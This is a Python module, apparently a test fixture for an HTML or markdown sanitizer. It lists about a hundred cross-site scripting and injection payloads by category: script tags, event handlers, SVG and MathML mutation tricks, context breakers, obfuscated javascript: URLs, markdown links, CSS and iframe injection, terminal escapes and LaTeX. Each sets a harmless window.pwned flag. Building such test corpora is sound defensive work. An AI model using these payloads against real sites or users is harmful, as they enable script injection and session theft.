"""Texts that try to run a script, load something, or take a page apart. Each that succeeds sets ``window.pwned``.

Kinds of attack as in OWASP's cheat sheet on filter evasion and the HTML5 security cheat sheet; written out anew.
"""

from __future__ import annotations

RUN = "window.pwned=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script/x>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f'<script type="module">{RUN}</script>',
    f"<<script>{RUN}//<</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
)

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}"',  # never closed
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\t=\n{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<p onmouseover={RUN} onclick={RUN} onfocus={RUN} tabindex=0 autofocus>over</p>",
    f"<marquee onstart={RUN}>by</marquee>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<b style=animation-name:x onanimationstart={RUN}>moves</b>",
    f"<xss contenteditable onbeforeinput={RUN} onblur={RUN}>words</xss>",
)

SVG_AND_MATH = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><script href="data:text/javascript,{RUN}"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>go</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x"/></svg>',
    f'<math href="javascript:{RUN}">go</math>',
    f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<svg></p><style><a title="</style><img src=x onerror={RUN}>">',
)

BREAKERS = (
    f"</script><script>{RUN}</script>",
    f"</ScRiPt\n><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}",
    f"--><script>{RUN}</script>",
    f"<!-- scripts --><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</textarea></title></style></noscript><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover={RUN} ",
    f'\\"+({RUN})+\\"',
    f'"}}];{RUN};//',
    f"\u2028{RUN}\u2029",
    f"</table></div></main><script>{RUN}</script>",
    f"{{{{ ''.__class__.__mro__ }}}}<script>{RUN}</script>",
    f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}",
    f"${{{RUN}}}",
    f"%{{y}}<script>{RUN}</script>%{{fullData.name}}",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript&colon;{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" \u00a0javascript:{RUN}",
    f"javascript&Tab;:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"view-source:javascript:{RUN}",
    "//example.com/%2e%2e",
    "\\\\example.com\\x",
)

LINKS = tuple(f'<a href="{address}">go</a>' for address in ADDRESSES)

MARKDOWN = (
    *(f"[go]({address})" for address in ADDRESSES),
    f'![x](x"onerror="{RUN})',
    f'[go](https://example.com "x" onmouseover={RUN})',
    f"<javascript:{RUN}>",
    f"[go][ref]\n\n[ref]: javascript:{RUN}",
    f"[go][ref]\n\n[ref]: <javascript:{RUN}> 'x'",
    f"![go][ref]\n\n[ref]: data:text/html,<script>{RUN}</script>",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<script>{RUN}</script>`",
    f"<div>\n\n[go](javascript:{RUN})\n\n</div>",
)

STYLES_AND_FRAMES = (
    "<style>body{display:none}</style>",
    "<style>@import url(https://example.com/x.css);</style>",
    "</style><style>*{visibility:hidden}",
    '<p style="position:fixed;inset:0;background:url(https://example.com/x)">over everything</p>',
    f'<p style="width:expression({RUN})">old</p>',
    '<link rel=stylesheet href="https://example.com/x.css">',
    '<base href="https://example.com/">',
    f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{RUN}</script>">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<button form=f formaction="javascript:{RUN}">go</button>',
    '<img src="https://example.com/x.png">',
    '<table background="https://example.com/x.png"><tr><td>cell</td></tr></table>',
    '<p id="facts" class="page">I am the facts</p>',
)

TERMINAL = (
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    f"\x1b]8;;javascript:{RUN}\x07go\x1b]8;;\x07",
    f"\x1b]8;;javascript:{RUN}\x1b\\go\x1b]8;;\x1b\\",
    f"<scr\x1b[0mipt>{RUN}</scr\x1b[0mipt>",
)

LATEX = (
    f"$\\href{{javascript:{RUN}}}{{go}}$",
    f"$$\\unicode{{<script>{RUN}</script>}}$$",
    f"\\(\\style{{x}}{{<img src=x onerror={RUN}>}}\\)",
)

PAYLOADS: tuple[str, ...] = (
    *SCRIPTS,
    *HANDLERS,
    *SVG_AND_MATH,
    *BREAKERS,
    *ADDRESSES,
    *LINKS,
    *MARKDOWN,
    *STYLES_AND_FRAMES,
    *TERMINAL,
    *LATEX,
)
